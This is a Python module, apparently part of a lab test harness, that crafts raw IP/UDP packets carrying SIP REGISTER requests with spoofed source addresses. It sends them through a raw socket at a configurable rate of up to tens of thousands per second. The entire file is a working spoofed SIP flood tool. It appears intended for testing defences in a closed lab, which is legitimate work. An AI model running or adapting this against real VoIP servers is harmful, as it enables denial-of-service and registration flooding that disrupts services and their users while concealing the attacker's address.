"""Sends SIP requests with any sender's address on them: `python -m lab.attack.spoof '{…}'`, in the
world's namespace. A program of its own: at 20,000 packets a second nobody else shares its lock.
"""

import ipaddress
import itertools
import json
import socket
import struct
import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import asdict, dataclass
from pathlib import Path

TICK_S = 0.005
#: A busy machine may make up for so much of a delay.
CATCH_UP_S = 2.0
_MARK = b"00000000"


@dataclass(frozen=True)
class Flood:
    """What to send: `number` sources from `first` on, one packet of each in turn."""

    to: str
    port: int
    first: str
    number: int
    count: int
    per_second: int
    method: str = "REGISTER"
    user: str = "101"

    def command(self) -> list[str]:
        """Return the program that sends it."""
        return [sys.executable, str(Path(__file__)), json.dumps(asdict(self))]


def send(flood: Flood) -> int:
    """Send it at its pace; return how many went out."""
    packets = _packets(flood)
    sent, due = 0, time.monotonic()
    batch = max(1, int(flood.per_second * TICK_S))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        while sent < flood.count:
            for packet in itertools.islice(packets, min(batch, flood.count - sent)):
                sock.sendto(packet, (flood.to, 0))
                sent += 1
            due = max(due + batch / flood.per_second, time.monotonic() - CATCH_UP_S)
            time.sleep(max(0.0, due - time.monotonic()))
    return sent


def _packets(flood: Flood) -> Iterator[bytes]:
    body = _request(flood)
    udp = struct.pack("!HHHH", 5060, flood.port, 8 + len(body), 0)
    # The kernel fills in length, identification and checksum (raw(7)).
    to = socket.inet_aton(flood.to)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, bytes(4), to)
    packet = bytearray(head + udp + body)
    marks = _places(bytes(packet))
    sources = [int(ipaddress.ip_address(flood.first)) + n for n in range(flood.number)]
    addresses = itertools.cycle([source.to_bytes(4, "big") for source in sources])
    for number, address in enumerate(addresses):
        packet[12:16] = address
        packet[20:22] = struct.pack("!H", 1024 + number % 60_000)
        text = b"%08d" % number
        for place in marks:
            packet[place : place + 8] = text
        yield bytes(packet)


def _places(packet: bytes) -> Sequence[int]:
    found, start = [], packet.find(_MARK)
    while start >= 0:
        found.append(start)
        start = packet.find(_MARK, start + 8)
    return found


def _request(flood: Flood) -> bytes:
    mark, to = _MARK.decode(), flood.to
    return (
        f"{flood.method} sip:{to} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP 10.0.0.1:5060;branch=z9hG4bK{mark};rport\r\nMax-Forwards: 70\r\n"
        f"From: <sip:{flood.user}@{to}>;tag=t{mark}\r\nTo: <sip:{flood.user}@{to}>\r\n"
        f"Call-ID: {mark}\r\nCSeq: 1 {flood.method}\r\nContact: <sip:x@10.0.0.1:5060>\r\n"
        "Content-Length: 0\r\n\r\n"
    ).encode()


if __name__ == "__main__":
    print(send(Flood(**json.loads(sys.argv[1]))))
